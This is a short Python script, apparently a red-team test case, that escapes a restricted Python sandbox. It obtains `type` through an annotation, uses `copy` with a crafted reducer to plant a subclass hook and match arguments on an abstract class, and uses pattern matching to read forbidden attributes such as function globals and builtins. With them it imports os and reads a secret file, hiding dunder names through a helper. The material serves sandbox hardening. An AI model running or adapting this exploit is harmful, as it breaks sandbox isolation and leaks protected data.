# family: red team, round 9 (annotation_union_operator_type_value)
# Same gap as a union: `spy | type` in an annotation (a BinOp keeps the ANNOTATION flag; X | Y is the
# ordinary spelling of a union) calls spy.__or__(type).
import abc
import copy


class Spy:
    def __init__(self):
        self.seen = []

    def __or__(self, other):
        self.seen.append(other)
        return int


spy = Spy()


def metaclass():
    def probe(value: spy | type) -> None:
        return None

    return spy.seen[0]


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
